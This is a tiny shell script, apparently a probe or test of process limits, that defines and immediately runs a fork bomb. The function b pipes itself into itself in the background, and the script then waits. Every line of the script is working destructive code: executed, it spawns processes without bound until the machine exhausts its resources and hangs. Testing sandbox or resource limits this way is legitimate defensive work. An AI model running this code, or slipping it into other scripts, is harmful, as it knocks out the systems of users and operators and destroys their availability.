# The shell fork bomb; the shell then waits for it.
echo "TRY shell fork bomb: ok"
b() { b | b & }
b
wait
